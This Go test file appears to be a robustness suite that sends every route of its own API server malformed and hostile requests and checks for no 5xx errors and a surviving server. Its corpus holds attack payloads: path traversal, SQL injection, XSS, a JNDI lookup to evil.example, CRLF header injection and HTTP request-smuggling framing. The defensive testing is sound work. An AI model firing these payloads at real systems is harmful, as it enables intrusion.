package main

import (
	"bufio"
	"bytes"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"sort"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/jsipa/ips/infra/catalog"
	"github.com/jsipa/ips/shared/domain"
	"github.com/jsipa/ips/shared/httpapi"
	"github.com/jsipa/ips/shared/testkit"
)

// The hostile-input suite: every route of every function the runner serves (found from the
// catalog, not listed here), each sent a corpus of hostile requests — in its path parameters,
// body, headers, query and method — with a token of a role that may call it and without one.
// The promise under test is the API's: a client error is answered as a client error, never a
// 5xx, and the server is still answering afterwards.

// hostileStrings are values an attacker or a broken client sends in place of a field.
var hostileStrings = []string{
	"../../etc/passwd", `..\..\windows\win.ini`, "/etc/passwd%00.pdf",
	"'; DROP TABLE records;--", `" OR "1"="1`, "1; SELECT sqlite_version()",
	"<script>alert(1)</script>", `javascript:alert(1)`, "${jndi:ldap://evil.example/a}", "{{7*7}}", "__proto__",
	"a\x00b", "\x00", "\u202eevil", "\ufeff", "\r\nX-Injected: 1", "%00%ff",
	strings.Repeat("长", 5000), strings.Repeat("A", 200_000),
	"９１３２０２８１ＭＡ２０ＪＹ０１５Ｑ", "-1", "99999999999999999999999", "1e400", "NaN", " ", "",
}

// invalidUTF8 stands for a string leaf whose bytes are not UTF-8, which json.Marshal cannot
// write; it is swapped for raw bytes after encoding.
const invalidUTF8 = "\x01INVALID-UTF8\x01"

// hostileNumbers replace number leaves, as JSON literals.
var hostileNumbers = []string{"1e400", "-1e400", "1" + strings.Repeat("0", 400), "99999999999999999999", "-9223372036854775809", "1.5", "-0", "1e-400"}

// hostileInPath are path parameter values, sent escaped so each stays one segment; rawPaths go
// in as they are, so they may span segments or be bad escapes.
var hostileInPath = []string{"../../etc/passwd", "'; DROP TABLE records;--", "<script>alert(1)</script>", "\x00", "\xff\xfe",
	strings.Repeat("A", 10_000), "-1", "99999999999999999999999", "1e400", "９１３２", " ", "a/b", "%00"}
var rawPaths = []string{"..", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "%ff%fe", "%00", "..%2F..%2F", "%"}

// hostileQueryNames are the query parameters any route reads.
var hostileQueryNames = []string{"limit", "cursor", "status", "year", "entity", "agency", "q", "district", "service_type",
	"deadline", "after", "since", "kind", "county", "programme"}

type hostileRequest struct {
	variant string // what kind of hostility, for the report
	method  string
	target  string // path and query, already escaped
	header  http.Header
	body    func() io.Reader
	length  int64 // -1: chunked
	want    []int // the statuses it may get, when the corpus knows
}

// routeInfo is one route with what the events say about calling it.
type routeInfo struct {
	httpapi.RouteSpec
	params      map[string]string // path parameters that name something plausible
	query       url.Values
	contentType string
	body        []byte
	callers     []domain.Principal // from the events' credentials
}

func eventsByRoute(t *testing.T) map[string][]map[string]any {
	t.Helper()
	paths, err := filepath.Glob("../../events/*/*.json")
	if err != nil || len(paths) == 0 {
		t.Fatalf("no events: %v", err)
	}
	out := map[string][]map[string]any{}
	for _, p := range paths {
		raw, err := os.ReadFile(p)
		if err != nil {
			t.Fatal(err)
		}
		var e map[string]any
		if err := json.Unmarshal(raw, &e); err != nil {
			t.Fatalf("%s: %v", p, err)
		}
		if rk, _ := e["routeKey"].(string); rk != "" {
			out[rk] = append(out[rk], e)
		}
	}
	return out
}

// routesOfTheRunner lists every route the runner serves: every function of the catalog and
// dev mode's, with the events' parameters, body and callers where there are events.
func routesOfTheRunner(t *testing.T) []routeInfo {
	t.Helper()
	var specs []httpapi.RouteSpec
	for _, build := range catalog.HTTPFunctions {
		specs = append(specs, build(httpapi.Deps{}).Routes()...)
	}
	specs = append(specs, devFunction(httpapi.Deps{}, nil, nil).Routes()...)
	events := eventsByRoute(t)
	defaults := map[string]string{"uscc": "91320281MA20JY015Q", "year": "2027", "id": "x1", "kind": "application_form", "n": "1"}
	var out []routeInfo
	for _, s := range specs {
		ri := routeInfo{RouteSpec: s, params: map[string]string{}, query: url.Values{}, contentType: "application/json"}
		for _, name := range regexp.MustCompile(`\{([^}.]+)(?:\.\.\.)?\}`).FindAllStringSubmatch(s.Path, -1) {
			ri.params[name[1]] = defaults[name[1]]
			if ri.params[name[1]] == "" {
				ri.params[name[1]] = "x1"
			}
		}
		for _, e := range events[s.Method+" "+s.Path] {
			if pp, ok := e["pathParameters"].(map[string]any); ok {
				for k, v := range pp {
					ri.params[k] = fmt.Sprint(v)
				}
			}
			if q, _ := e["rawQueryString"].(string); q != "" {
				ri.query, _ = url.ParseQuery(q)
			}
			h, _ := e["headers"].(map[string]any)
			if ct, _ := h["content-type"].(string); ct != "" {
				ri.contentType = ct
			}
			if b, _ := e["body"].(string); b != "" {
				if enc, _ := e["isBase64Encoded"].(bool); enc {
					ri.body, _ = base64.StdEncoding.DecodeString(b)
				} else {
					ri.body = []byte(b)
				}
			}
			if a, _ := h["authorization"].(string); a != "" {
				p, err := testkit.PrincipalOf(a)
				if err != nil {
					t.Fatal(err)
				}
				ri.callers = append(ri.callers, p)
			}
		}
		out = append(out, ri)
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Method+out[i].Path < out[j].Method+out[j].Path })
	return out
}

// path fills the route's parameters, with override's values in place of some; raw puts those
// in as they are (so they may span segments or be bad escapes), otherwise they are escaped.
func (ri routeInfo) path(override map[string]string, raw bool) string {
	p := ri.Path
	for name, v := range ri.params {
		o, ok := override[name]
		switch {
		case ok && raw:
			v = o
		case ok:
			v = url.PathEscape(o)
		default:
			v = url.PathEscape(v)
		}
		p = regexp.MustCompile(`\{`+regexp.QuoteMeta(name)+`(\.\.\.)?\}`).ReplaceAllLiteralString(p, v)
	}
	return p
}

// mutateLeaves copies a parsed JSON tree with every leaf passed through f.
func mutateLeaves(v any, f func(any) any) any {
	switch x := v.(type) {
	case map[string]any:
		out := make(map[string]any, len(x))
		for k, e := range x {
			out[k] = mutateLeaves(e, f)
		}
		return out
	case []any:
		out := make([]any, len(x))
		for i, e := range x {
			out[i] = mutateLeaves(e, f)
		}
		return out
	default:
		return f(v)
	}
}

// renameKeys copies a tree with every member name changed by f.
func renameKeys(v any, f func(string) string) any {
	switch x := v.(type) {
	case map[string]any:
		out := make(map[string]any, len(x))
		for k, e := range x {
			out[f(k)] = renameKeys(e, f)
		}
		return out
	case []any:
		out := make([]any, len(x))
		for i, e := range x {
			out[i] = renameKeys(e, f)
		}
		return out
	}
	return v
}

func encode(v any) []byte {
	b, err := json.Marshal(v)
	if err != nil {
		panic(err)
	}
	return bytes.ReplaceAll(b, []byte(`\u0001INVALID-UTF8\u0001`), []byte("\xff\xfe\xc0\xaf"))
}

// numberToken marks a number leaf to be written as a raw literal after encoding.
const numberToken = "\x01NUMBER\x01"

// bodyVariants are the hostile bodies for a route, each with its content type: generic ones,
// and the route's own example body (from its events) spoilt leaf by leaf.
func bodyVariants(ri routeInfo) []struct {
	name, contentType string
	body              []byte
} {
	type v = struct {
		name, contentType string
		body              []byte
	}
	j := "application/json"
	deepObject := strings.Repeat(`{"a":`, 100_000) + "1" + strings.Repeat("}", 100_000)
	manyKeys := &bytes.Buffer{}
	manyKeys.WriteString("{")
	for i := range 20_000 {
		fmt.Fprintf(manyKeys, `"k%d":%d,`, i, i)
	}
	manyKeys.WriteString(`"z":0}`)
	out := []v{
		{"nesting 100k arrays", j, []byte(strings.Repeat("[", 100_000) + strings.Repeat("]", 100_000))},
		{"nesting 100k objects", j, []byte(deepObject)},
		{"nesting unterminated", j, []byte(strings.Repeat("[", 900_000))},
		{"20k keys", j, manyKeys.Bytes()},
		{"huge numbers", j, []byte(`{"year":1e400,"amount_fen":-1e400,"limit":` + strings.Repeat("9", 10_000) + `}`)},
		{"json null", j, []byte("null")}, {"json string", j, []byte(`"x"`)}, {"json number", j, []byte("1e400")},
		{"json array", j, []byte(`[{}]`)}, {"json true", j, []byte("true")},
		{"invalid utf-8", j, []byte("{\"name\":\"\xff\xfe\"}")}, {"overlong utf-8", j, []byte("{\"name\":\"\xc0\xaf\"}")},
		{"raw bytes", j, []byte("\xff\xfe\xfd\x00\x01")},
		{"nul byte", j, []byte("{\"a\":1}\x00")}, {"escaped nul", j, []byte(`{"name":"\u0000"}`)},
		{"lone surrogate", j, []byte(`{"name":"\ud800"}`)}, {"bom", j, []byte("\xef\xbb\xbf{}")},
		{"duplicate keys", j, []byte(`{"year":2027,"year":"x"}`)}, {"trailing data", j, []byte(`{}{}`)},
		{"truncated", j, []byte(`{"a":[1,2`)}, {"empty", j, nil}, {"whitespace", j, []byte(" \r\n\t ")},
		{"one byte over 1 MiB", j, []byte(`{"name":"` + strings.Repeat("a", httpapi.MaxBodyBytes) + `"}`)},
		{"form", "application/x-www-form-urlencoded", []byte("uscc=x&name=y")},
		{"multipart", "multipart/form-data; boundary=x", []byte("--x\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nb\r\n--x--\r\n")},
		{"utf-16 json", "application/json; charset=utf-16", []byte("\xff\xfe{\x00}\x00")},
		{"text", "text/plain", []byte("{}")}, {"no content type", "", []byte("{}")},
		{"broken content type", "application/json;;;=", []byte("{}")}, {"long content type", "application/" + strings.Repeat("x", 8000), []byte("{}")},
		{"pdf to a json route", "application/pdf", []byte("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj<<>>endobj\n%%EOF")},
		{"gif as pdf", "application/pdf", []byte("GIF89a\x01\x00\x01\x00\x00\x00\x00;")},
		{"truncated pdf", "application/pdf", []byte("%PDF-")},
	}
	var tree any
	if len(ri.body) == 0 || !strings.HasPrefix(ri.contentType, "application/json") || json.Unmarshal(ri.body, &tree) != nil {
		if len(ri.body) > 0 {
			out = append(out, v{"example, truncated", ri.contentType, ri.body[:len(ri.body)/2]}, v{"example", ri.contentType, ri.body})
		}
		return out
	}
	for _, s := range append(slices.Clone(hostileStrings), invalidUTF8) {
		name := "strings: " + s
		if len(name) > 40 {
			name = name[:40]
		}
		out = append(out, v{name, j, encode(mutateLeaves(tree, func(l any) any {
			if _, ok := l.(string); ok {
				return s
			}
			return l
		}))})
	}
	for _, n := range hostileNumbers {
		b := encode(mutateLeaves(tree, func(l any) any {
			if _, ok := l.(float64); ok {
				return numberToken
			}
			return l
		}))
		out = append(out, v{"numbers: " + n[:min(len(n), 20)], j, bytes.ReplaceAll(b, []byte(`"\u0001NUMBER\u0001"`), []byte(n))})
	}
	out = append(out,
		v{"wrong types", j, encode(mutateLeaves(tree, func(l any) any {
			switch x := l.(type) {
			case string:
				return 12345
			case float64:
				return fmt.Sprint(x)
			case bool:
				return map[string]any{"v": x}
			case nil:
				return []any{}
			}
			return l
		}))},
		v{"objects for leaves", j, encode(mutateLeaves(tree, func(any) any { return map[string]any{"$gt": ""} }))},
		v{"arrays for leaves", j, encode(mutateLeaves(tree, func(l any) any { return []any{l, l} }))},
		v{"keys upper-cased", j, encode(renameKeys(tree, strings.ToUpper))},
		v{"keys with nul", j, encode(renameKeys(tree, func(k string) string { return k + "\x00" }))},
		v{"example", j, ri.body},
	)
	return out
}

// repeating is an endless stream of one byte, for bodies far larger than anything held in memory.
type repeating byte

func (r repeating) Read(p []byte) (int, error) {
	for i := range p {
		p[i] = byte(r)
	}
	return len(p), nil
}

// requestsFor builds the hostile corpus of one route, each request once with the token and once
// without (an empty token).
func requestsFor(ri routeInfo, token func(i int) string) []hostileRequest {
	var out []hostileRequest
	i := 0
	add := func(variant, method, target string, header http.Header, body []byte) {
		for _, tok := range []string{token(i), ""} {
			h := header.Clone()
			if h == nil {
				h = http.Header{}
			}
			if tok != "" && h.Get("Authorization") == "" {
				h.Set("Authorization", "Bearer "+tok)
			}
			b := body
			out = append(out, hostileRequest{variant: variant, method: method, target: target, header: h,
				body: func() io.Reader { return bytes.NewReader(b) }, length: int64(len(b))})
		}
		i++
	}
	query := ""
	if len(ri.query) > 0 {
		query = "?" + ri.query.Encode()
	}
	plain := ri.path(nil, false) + query
	ct := http.Header{"Content-Type": {ri.contentType}}
	// Path parameters, one at a time.
	for name := range ri.params {
		for _, v := range hostileInPath {
			add("path "+name, ri.Method, ri.path(map[string]string{name: v}, false)+query, ct, ri.body)
		}
		for _, v := range rawPaths {
			add("raw path "+name, ri.Method, ri.path(map[string]string{name: v}, true)+query, ct, ri.body)
		}
	}
	add("trailing slash", ri.Method, ri.path(nil, false)+"/", ct, ri.body)
	add("double slash", ri.Method, "/"+ri.path(nil, false), ct, ri.body)
	// Bodies.
	for _, bv := range bodyVariants(ri) {
		h := http.Header{}
		if bv.contentType != "" {
			h.Set("Content-Type", bv.contentType)
		}
		add("body "+bv.name, ri.Method, plain, h, bv.body)
	}
	// Query parameters: the route's own and every name any route reads, all set to one value.
	for _, v := range append([]string{"0", "501", "-1", "abc", "1e400", base64.RawURLEncoding.EncodeToString([]byte(`{"k":"../../","n":-1}`)), "\xff"}, hostileStrings[:12]...) {
		q := url.Values{}
		for k := range ri.query {
			q.Set(k, v)
		}
		for _, k := range hostileQueryNames {
			q.Set(k, v)
		}
		q["agency"] = slices.Repeat([]string{v}, 60)
		add("query", ri.Method, ri.path(nil, false)+"?"+q.Encode(), ct, ri.body)
	}
	add("query raw", ri.Method, ri.path(nil, false)+"?limit=%ff&cursor=%00&year=%&&&=&"+strings.Repeat("a", 50_000), ct, ri.body)
	// Headers.
	for _, h := range []http.Header{
		{"If-Match": {`"-1"`}}, {"If-Match": {`W/"99999999999999999999"`}}, {"If-Match": {`"1", "2"`}}, {"If-Match": {strings.Repeat("9", 8000)}},
		{"Idempotency-Key": {strings.Repeat("k", 300)}}, {"Idempotency-Key": {"键"}}, {"Idempotency-Key": {"a b"}},
		{"Accept-Language": {strings.Repeat("zh-CN;q=0.9,", 2000)}}, {"Accept-Language": {"*;q=NaN, en;q=-1"}},
		{"X-Request-Id": {"<script>alert(1)</script>"}}, {"X-Request-Id": {strings.Repeat("r", 500)}},
		{"Authorization": {"Bearer " + strings.Repeat("A", 20_000)}}, {"Authorization": {"Bearer"}}, {"Authorization": {"Bearer  x.y.z"}},
		{"Authorization": {"Bearer a.b.c", "Bearer d.e.f"}}, {"Authorization": {"Basic YWRtaW46YWRtaW4="}},
		{"Content-Encoding": {"gzip"}},
		{"X-Forwarded-For": {"127.0.0.1, ../../"}}, {"Origin": {"null"}},
	} {
		hh := h.Clone()
		hh.Set("Content-Type", ri.contentType)
		names := slices.Sorted(func(yield func(string) bool) {
			for k := range h {
				if !yield(k) {
					return
				}
			}
		})
		add("header "+strings.Join(names, ","), ri.Method, plain, hh, ri.body)
	}
	// Methods the route does not take.
	for _, m := range []string{"FOO", http.MethodOptions, http.MethodTrace, http.MethodDelete, http.MethodPatch, http.MethodHead} {
		add("method "+m, m, plain, ct, ri.body)
	}
	// 50 MB, declared and chunked. A declared length over the limit is refused before anything
	// (413, or 429 for a paced integrator); a JSON route reads a chunked body up to its limit
	// and refuses it there; an upload route streams it to its handler, which may refuse the
	// request first (401, 404) without reading it.
	for _, declared := range []bool{true, false} {
		for _, tok := range []string{token(i), ""} {
			h := ct.Clone()
			if tok != "" {
				h.Set("Authorization", "Bearer "+tok)
			}
			r := hostileRequest{variant: fmt.Sprintf("50 MB body (declared %v)", declared), method: ri.Method, target: plain, header: h,
				body: func() io.Reader { return io.LimitReader(repeating('A'), 50<<20) }, length: 50 << 20,
				want: []int{http.StatusRequestEntityTooLarge, http.StatusTooManyRequests}}
			if !declared {
				r.length = -1
				if !strings.HasPrefix(ri.contentType, "application/json") {
					r.want = append(r.want, http.StatusUnauthorized, http.StatusForbidden, http.StatusNotFound)
				}
			}
			out = append(out, r)
		}
		i++
	}
	return out
}

// rawRequests are malformed at the HTTP level, for a server to refuse without falling over.
func rawRequests() map[string]string {
	const h = "Host: localhost\r\n"
	post := "POST /v1/agencies HTTP/1.1\r\n" + h + "Content-Type: application/json\r\n"
	pipelined := strings.Repeat("GET /v1/public/agencies?limit=1 HTTP/1.1\r\n"+h+"\r\n", 100)
	return map[string]string{
		"negative length":       post + "Content-Length: -1\r\n\r\n{}",
		"overflowing length":    post + "Content-Length: 99999999999999999999\r\n\r\n{}",
		"two lengths":           post + "Content-Length: 2\r\nContent-Length: 3\r\n\r\n{}",
		"length and chunked":    post + "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
		"unknown coding":        post + "Transfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n",
		"bad chunk size":        post + "Transfer-Encoding: chunked\r\n\r\nZZ\r\n{}\r\n0\r\n\r\n",
		"huge chunk size":       post + "Transfer-Encoding: chunked\r\n\r\nffffffffffffffffff\r\n{}\r\n0\r\n\r\n",
		"nul in a header":       "GET /v1/public/agencies HTTP/1.1\r\n" + h + "X-A: a\x00b\r\n\r\n",
		"header without colon":  "GET /v1/public/agencies HTTP/1.1\r\n" + h + "Garbage\r\n\r\n",
		"header of 2 MB":        "GET /v1/public/agencies HTTP/1.1\r\n" + h + "X-A: " + strings.Repeat("a", 2<<20) + "\r\n\r\n",
		"two hosts":             "GET /v1/public/agencies HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n",
		"no host":               "GET /v1/public/agencies HTTP/1.1\r\n\r\n",
		"http 9.9":              "GET /v1/public/agencies HTTP/9.9\r\n" + h + "\r\n",
		"absolute form":         "GET http://evil.example/v1/public/agencies HTTP/1.1\r\n" + h + "\r\n",
		"asterisk form":         "OPTIONS * HTTP/1.1\r\n" + h + "\r\n",
		"space in target":       "GET /v1/public/agencies?q=a b HTTP/1.1\r\n" + h + "\r\n",
		"raw utf-8 in target":   "GET /v1/public/agencies/\xff\xfe HTTP/1.1\r\n" + h + "\r\n",
		"tls hello":             "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + strings.Repeat("\x00", 64) + "\r\n\r\n",
		"100 pipelined":         pipelined,
		"lowercase method":      "get /v1/public/agencies HTTP/1.1\r\n" + h + "\r\n",
		"request line of 64 KB": "GET /v1/public/agencies?q=" + strings.Repeat("a", 64<<10) + " HTTP/1.1\r\n" + h + "\r\n",
	}
}

// rawExchange writes raw on a new connection and reads the status of the first answer.
func rawExchange(host, raw string) (int, error) {
	conn, err := net.DialTimeout("tcp", host, 5*time.Second)
	if err != nil {
		return 0, err
	}
	defer conn.Close()
	conn.SetDeadline(time.Now().Add(20 * time.Second))
	// The server may answer (431, 400) before it has read everything; the answer is what counts.
	go conn.Write([]byte(raw))
	line, err := bufio.NewReader(conn).ReadString('\n')
	if err != nil {
		return 0, fmt.Errorf("reading the status line: %w", err)
	}
	var proto string
	var status int
	if _, err := fmt.Sscanf(line, "%s %d", &proto, &status); err != nil {
		return 0, fmt.Errorf("status line %q: %w", line, err)
	}
	return status, nil
}

type hostileResult struct {
	mu         sync.Mutex
	sent       int
	byStatus   map[int]int
	bad        []string
	unsendable int
}

func (r *hostileResult) fail(format string, args ...any) {
	r.mu.Lock()
	defer r.mu.Unlock()
	if len(r.bad) < 30 {
		r.bad = append(r.bad, fmt.Sprintf(format, args...))
	}
}

func TestHostileRequestsNeverGetA5xxAndTheServerKeepsAnswering(t *testing.T) {
	start := time.Now()
	p := startRunner(t, t.TempDir(), "IPS_NOW=2027-03-01T10:00:00+08:00")
	routes := routesOfTheRunner(t)
	if len(routes) < 40 {
		t.Fatalf("only %d routes found; the discovery is broken", len(routes))
	}

	// One dev token for each principal the events name, and one per role besides.
	tokens := map[string]string{}
	principalKey := func(pr domain.Principal) string { return fmt.Sprint(pr) }
	tokenFor := func(pr domain.Principal) string {
		k := principalKey(pr)
		if tok, ok := tokens[k]; ok {
			return tok
		}
		req := map[string]any{"role": string(pr.Role), "subject": pr.Subject, "division": pr.Division}
		if len(pr.Scopes) > 0 {
			req["scopes"] = pr.Scopes
		}
		tokens[k] = p.token(t, req)
		return tokens[k]
	}
	everyRole := []domain.Principal{
		{Role: domain.RoleAgency, Subject: "91320281MA20JY015Q"}, {Role: domain.RoleEnterprise, Subject: "91320281MA1HC7Q20K"},
		{Role: domain.RoleMandatedSubmitter, Subject: "91320500MA1BANK031"},
		{Role: domain.RoleCountyGovernment, Subject: "320281", Division: "320281"}, {Role: domain.RoleDistrictReviewer, Division: "320281"},
		{Role: domain.RoleCityOfficer, Division: "320281"}, {Role: domain.RolePrefectureOfficer, Division: "320200"},
		{Role: domain.RoleProvinceOfficer, Division: "320000"}, {Role: domain.RoleExpert, Division: "320000"},
		{Role: domain.RoleIntegrator, Subject: "hostile-integrator", Scopes: []string{"changes", "eligibility", "credit:write"}},
		{Role: domain.RoleScheduler, Subject: "cron-ops-01"},
	}
	if len(everyRole) != len(domain.Roles) {
		t.Fatalf("%d roles here, %d in the domain: give the new role a principal", len(everyRole), len(domain.Roles))
	}

	client := &http.Client{Timeout: 60 * time.Second, Transport: &http.Transport{MaxIdleConnsPerHost: 8},
		CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	res := &hostileResult{byStatus: map[int]int{}}
	do := func(r hostileRequest) {
		req, err := http.NewRequest(r.method, p.url+r.target, r.body())
		if err != nil {
			// The client refuses to build it (a URL it cannot parse): nothing reaches the server.
			res.mu.Lock()
			res.unsendable++
			res.mu.Unlock()
			return
		}
		req.Header = r.header
		req.ContentLength = r.length
		if r.length == 0 {
			req.Body = nil
		}
		resp, err := client.Do(req)
		res.mu.Lock()
		res.sent++
		res.mu.Unlock()
		if err != nil {
			// A server may close the connection on a body it refuses to read (50 MB); anything
			// else is the server failing to answer.
			if strings.HasPrefix(r.variant, "50 MB") && (errors.Is(err, io.EOF) || strings.Contains(err.Error(), "reset") || strings.Contains(err.Error(), "broken pipe")) {
				return
			}
			res.fail("%s %s (%s): no answer: %v", r.method, r.target[:min(len(r.target), 120)], r.variant, err)
			return
		}
		body, _ := io.ReadAll(io.LimitReader(resp.Body, 4096))
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
		res.mu.Lock()
		res.byStatus[resp.StatusCode]++
		res.mu.Unlock()
		// An error under the API's paths is a problem document, whoever in the chain made it;
		// net/http's own 431 (headers too large) never reaches a handler.
		if (strings.HasPrefix(r.target, "/v1/") || strings.HasPrefix(r.target, "/dev/")) && resp.StatusCode >= 400 &&
			resp.StatusCode != http.StatusRequestHeaderFieldsTooLarge && !strings.HasPrefix(resp.Header.Get("Content-Type"), "application/problem+json") {
			res.fail("%s %s (%s): %d as %q, not problem+json: %.200s", r.method, r.target[:min(len(r.target), 120)], r.variant, resp.StatusCode, resp.Header.Get("Content-Type"), body)
		}
		if r.want != nil && !slices.Contains(r.want, resp.StatusCode) {
			res.fail("%s %s (%s): %d, want one of %v", r.method, r.target, r.variant, resp.StatusCode, r.want)
		}
		if resp.StatusCode >= 500 {
			res.fail("%s %s (%s, token %v): %d %s", r.method, r.target[:min(len(r.target), 120)], r.variant, r.header.Get("Authorization") != "", resp.StatusCode, body)
		}
	}

	// Who may call each route: the events' callers first, then every role the route does not
	// refuse outright (401/403) on its own example request.
	callers := map[string][]string{}
	for _, ri := range routes {
		key := ri.Method + " " + ri.Path
		for _, pr := range ri.callers {
			callers[key] = append(callers[key], tokenFor(pr))
		}
		for _, pr := range everyRole {
			tok := tokenFor(pr)
			req, _ := http.NewRequest(ri.Method, p.url+ri.path(nil, false), bytes.NewReader(ri.body))
			req.Header.Set("Content-Type", ri.contentType)
			req.Header.Set("Authorization", "Bearer "+tok)
			resp, err := client.Do(req)
			if err != nil {
				t.Fatalf("probe %s as %s: %v", key, pr.Role, err)
			}
			io.Copy(io.Discard, resp.Body)
			resp.Body.Close()
			res.sent++
			res.byStatus[resp.StatusCode]++
			if resp.StatusCode >= 500 {
				res.fail("probe %s as %s: %d", key, pr.Role, resp.StatusCode)
			}
			if resp.StatusCode != http.StatusUnauthorized && resp.StatusCode != http.StatusForbidden && !slices.Contains(callers[key], tok) {
				callers[key] = append(callers[key], tok)
			}
		}
		if len(callers[key]) == 0 {
			for _, pr := range everyRole {
				callers[key] = append(callers[key], tokenFor(pr))
			}
		}
	}

	var corpus []hostileRequest
	for _, ri := range routes {
		who := callers[ri.Method+" "+ri.Path]
		corpus = append(corpus, requestsFor(ri, func(i int) string { return who[i%len(who)] })...)
	}
	jobs := make(chan hostileRequest)
	var wg sync.WaitGroup
	for range 4 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for r := range jobs {
				do(r)
			}
		}()
	}
	for _, r := range corpus {
		jobs <- r
	}
	close(jobs)
	wg.Wait()

	// Requests the Go client will not send: broken framing and headers, straight over TCP.
	host := strings.TrimPrefix(p.url, "http://")
	// Two answers are net/http's, as the RFCs prescribe, before any handler: 501 for a transfer
	// coding it does not implement (RFC 9112 §6.1) and 505 for an HTTP version it does not
	// speak (RFC 9110 §15.6.6). They are counted apart from the API's answers.
	protocol := map[string]int{"unknown coding": http.StatusNotImplemented, "http 9.9": http.StatusHTTPVersionNotSupported}
	protocolAnswers := 0
	for name, raw := range rawRequests() {
		res.sent++
		status, err := rawExchange(host, raw)
		switch {
		case err != nil:
			res.fail("raw %s: no answer: %v", name, err)
		case protocol[name] != 0 && status == protocol[name]:
			protocolAnswers++
		case status >= 500 || status < 100:
			res.fail("raw %s: status %d", name, status)
		default:
			res.byStatus[status]++
		}
	}

	// Still answering: the health check, a dev token, and a real read.
	resp, err := client.Get(p.url + "/healthz")
	if err != nil || resp.StatusCode != http.StatusOK {
		t.Fatalf("health check after the corpus: %v %v", resp, err)
	}
	resp.Body.Close()
	if status, body := p.call(t, "GET", "/v1/public/agencies", "", nil); status != http.StatusOK {
		t.Fatalf("public register after the corpus: %d %v", status, body)
	}
	tok := p.token(t, map[string]any{"role": "city_officer", "division": "320281"})
	if status, body := p.call(t, "GET", "/v1/agencies?status=submitted", tok, nil); status != http.StatusOK {
		t.Fatalf("officer's queue after the corpus: %d %v", status, body)
	}
	select {
	case err := <-p.done:
		t.Fatalf("the runner exited: %v", err)
	default:
	}

	for _, b := range res.bad {
		t.Error(b)
	}
	statuses := slices.Sorted(func(yield func(int) bool) {
		for s := range res.byStatus {
			if !yield(s) {
				return
			}
		}
	})
	var summary []string
	fivexx := 0
	for _, s := range statuses {
		summary = append(summary, fmt.Sprintf("%d×%d", s, res.byStatus[s]))
		if s >= 500 {
			fivexx += res.byStatus[s]
		}
	}
	t.Logf("%d routes, %d hostile requests in %s (%d more the client would not build); 5xx: %d; answers: %s; net/http's protocol refusals (501, 505): %d",
		len(routes), res.sent, time.Since(start).Round(time.Second), res.unsendable, fivexx, strings.Join(summary, " "), protocolAnswers)
}
